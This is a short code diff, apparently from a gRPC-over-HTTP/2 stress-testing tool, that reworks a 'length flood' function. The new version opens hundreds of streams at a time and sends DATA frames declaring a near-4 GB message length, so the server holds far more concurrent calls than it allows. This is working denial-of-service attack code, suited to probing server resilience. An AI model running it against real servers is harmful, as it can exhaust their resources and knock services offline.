@@ -555,8 +555,17 @@ def g1_lengths(address, seconds):
 
 
 def g1_length_flood(address, seconds):
-    return flood(address, seconds, each_stream(
-        lambda s: frame(HEADERS, END_HEADERS, s, CALL) + frame(DATA, 0, s, b"\0\xff\xff\xff\xff\x01"), 20))
+    def call(stream):
+        return frame(HEADERS, END_HEADERS, stream, CALL)
+    def length(stream):
+        return frame(DATA, 0, stream, b"\0\xff\xff\xff\xff\x01")
+    def chunks():
+        yield b"".join(call(stream) + length(stream) for stream in range(1, 41, 2))
+        # These begin before any of them says its length: more calls at once than are allowed, however slow both sides are.
+        for first in range(41, 1 << 30, 400):
+            streams = range(first, first + 400, 2)
+            yield b"".join(map(call, streams)) + b"".join(map(length, streams))
+    return flood(address, seconds, chunks)
 
 
 def g2_compression(address, seconds):
